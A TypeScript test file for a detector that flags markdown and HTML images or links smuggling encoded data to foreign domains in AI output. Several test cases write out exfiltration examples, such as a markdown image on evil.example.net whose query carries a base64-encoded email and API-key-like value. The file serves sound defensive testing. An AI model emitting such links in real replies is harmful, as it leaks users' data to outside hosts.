import { describe, expect, it } from 'vitest';
import type { Finding, Subject } from '../../types.ts';
import { createExfiltrationDetector } from './index.ts';
import { assertSpansInsideText } from '../../../../test/support/detector-spans.ts';

const subject = (text: string): Subject => ({
  surface: 'output',
  text,
  location: 'output.text',
  canaries: [],
});
const detector = createExfiltrationDetector({ allowedDomains: ['acme.io'] });
const detect = (text: string): readonly Finding[] => detector.detect(subject(text));
const summary = (text: string): string[] =>
  detect(text).map(
    (finding) =>
      `${finding.rule}:${finding.score}:${text.slice(finding.span?.start, finding.span?.end)}`,
  );

const PAYLOAD = Buffer.from('user email is maria@acme-corp.io and key sk-123').toString(
  'base64url',
);

describe('exfiltration detector', () => {
  it('flags a markdown image carrying data to a foreign domain with score 1', () => {
    const url = `https://evil.example.net/pixel.png?d=${PAYLOAD}`;
    expect(summary(`Done! ![status](${url})`)).toEqual([`markdown-image:1:${url}`]);
  });

  it('flags a plain foreign image lower than one with a payload', () => {
    expect(summary('![cat](https://images.example.net/cat.png)')).toEqual([
      'markdown-image:0.6:https://images.example.net/cat.png',
    ]);
  });

  it('allows images on allowed domains and their subdomains', () => {
    expect(
      detect(`![a](https://cdn.acme.io/a.png?d=${PAYLOAD}) ![b](https://acme.io/b.png)`),
    ).toEqual([]);
  });

  it('ignores data URIs and relative images', () => {
    expect(detect('![x](data:image/png;base64,iVBORw0KGgo=) ![y](./local.png)')).toEqual([]);
  });

  it('flags HTML images and reference-style markdown images', () => {
    const text = `<img alt="x" src="https://t.example.net/p?q=${PAYLOAD}">\n![ref][tracker]\n\n[tracker]: https://t.example.org/i.gif`;
    expect(detect(text).map((finding) => finding.rule)).toEqual(['markdown-image', 'html-image']);
  });

  it('flags links whose query carries an encoded payload, not ordinary links', () => {
    expect(
      detect(`see [this](https://evil.example.net/c?x=${PAYLOAD})`).map((f) => f.rule),
    ).toEqual(['url-data-payload']);
    expect(
      detect(
        'see https://en.wikipedia.org/wiki/Prompt_injection?oldid=12345 and https://github.com/a/b',
      ),
    ).toEqual([]);
  });

  it('never throws and reports spans inside the text on arbitrary input', () => {
    const fuzzed = createExfiltrationDetector({ allowedDomains: ['acme.io'] });
    assertSpansInsideText(fuzzed, [
      '![',
      '](',
      ')',
      '<img src=',
      '>',
      'https://',
      'evil.net/',
      '?d=',
      'QUJD',
      '[',
      ']: ',
      '\n',
      ' ',
      'acme.io',
    ]);
  });
});
